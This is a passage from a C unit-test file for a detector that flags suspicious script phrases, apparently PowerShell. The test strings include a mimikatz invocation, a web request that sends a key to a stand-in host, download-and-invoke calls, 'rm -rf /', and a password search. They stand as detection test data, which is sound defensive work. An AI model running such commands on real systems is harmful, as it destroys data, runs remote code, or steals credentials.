	for (size_t i = 0, len; *terms != '\0'; terms += len, terms += *terms == ' ') {
		len = strcspn(terms, " ");
		if (*terms == '!' || strncmp(terms, "=> ", 3) == 0)
			continue;
		if (!write_term(terms, len, i == word ? nth : 0, out, size))
			return false;
		i++;
	}
	return true;
}

static void
test_every_row(void **state)
{
	static char text[4096];
	struct findings f;

	(void)state;
	for (size_t i = 0; i < nitems(sources); i++)
		for (size_t word = 0; word < 8; word++)
			for (size_t n = 0; write_phrase(sources[i].terms, word, n, text, sizeof(text)) && n < 200; n++) {
				judge(&f, text, strlen(text));
				if (!f.has[sources[i].rule])
					fail_msg("no %s: %s", rule_info[sources[i].rule].name, text);
			}
}

/* ---- What is shown, and the edges ---- */

static void
assert_detail(const char *text, enum rule r, const char *want)
{
	struct findings f;

	judge(&f, text, strlen(text));
	assert_true(f.has[r]);
	assert_string_equal(found_detail(&f, r), want);
}

static void
test_detail(void **state)
{
	(void)state;
	assert_detail("x; invoke-mimikatz -a", R_ATTACK_TOOL, "mimikatz");
	assert_detail("iwr http://a.example/x?key=secret", R_WEB_ADDRESS, "a.example");
	assert_detail("$x.downloadstringasync(1)", R_DOWNLOAD, "downloadstringasync");
	assert_detail("rm -rf / ", R_DESTRUCTION, "rm -rf /");
	assert_detail("\tiex\n", R_INVOKE_EXPRESSION, "iex");
}

static void
test_blanks(void **state)
{
	struct findings f;

	(void)state;
	judge(&f, "sls password dir", 16);
	assert_true(f.has[R_CREDENTIALS]);
	judge(&f, "a\0iex\0b", 7);
	assert_true(f.has[R_INVOKE_EXPRESSION]);
}

static void
test_empty(void **state)
{
	struct findings f;

	(void)state;
	findings_init(&f);
	phrases_judge(&f, (struct view){ NULL, 0 });
	for (enum rule r = 0; r < R_MAX; r++)
		assert_false(f.has[r]);
	judge(&f, "", 0);
	judge(&f, "a", 1);
	judge(&f, "ab", 2);
	for (enum rule r = 0; r < R_MAX; r++)
		assert_false(f.has[r]);
	judge(&f, "iex", 3);
	assert_true(f.has[R_INVOKE_EXPRESSION]);
}

/* Each prefix: none over-reads. */
static void
test_truncated(void **state)
{
	struct findings f;

	(void)state;
	for (size_t i = 0; i < nitems(fires); i++)
		for (size_t n = 0; n < strlen(fires[i].text); n++)
			judge(&f, fires[i].text, n);
}

/* What was found stays, and is not found again. */
static void
test_kept(void **state)
{
	struct findings f;

	(void)state;
	findings_init(&f);
	found(&f, R_WEB_ADDRESS, view_str("before"));
	phrases_judge(&f, view_str("iwr http://a.example/"));
	assert_string_equal(found_detail(&f, R_WEB_ADDRESS), "before");
}

/* A megabyte of beginnings: what would be slow is not tried at each byte. */
static void
test_long(void **state)
{
	static const char *const parts[] = { "invoke-", "http://", "get-domain", "a", "https://1.2.3.4/a", "://" };
	char *text = test_malloc(MAX_SCRIPT_TEXT + 64);
	struct findings f;

	(void)state;
	for (size_t i = 0; i < nitems(parts); i++) {
		size_t len = strlen(parts[i]);

		for (size_t at = 0; at < MAX_SCRIPT_TEXT; at++)
			text[at] = parts[i][at % len];
		memcpy(text + MAX_SCRIPT_TEXT, " iex iex ", 9);
		judge(&f, text, MAX_SCRIPT_TEXT + 9);
		assert_false(f.has[R_INVOKE_EXPRESSION]);	/* beyond what is looked at */
		memcpy(text + MAX_SCRIPT_TEXT - 9, " iex iex ", 9);
		judge(&f, text, MAX_SCRIPT_TEXT);
		assert_true(f.has[R_INVOKE_EXPRESSION]);
	}
	test_free(text);
}

int
main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_fires),
		cmocka_unit_test(test_quiet),
		cmocka_unit_test(test_misses),
		cmocka_unit_test(test_every_row),
		cmocka_unit_test(test_detail),
		cmocka_unit_test(test_blanks),
		cmocka_unit_test(test_empty),
		cmocka_unit_test(test_truncated),
		cmocka_unit_test(test_kept),
		cmocka_unit_test(test_long),
	};

	return cmocka_run_group_tests_name("phrases", tests, NULL, NULL);
}
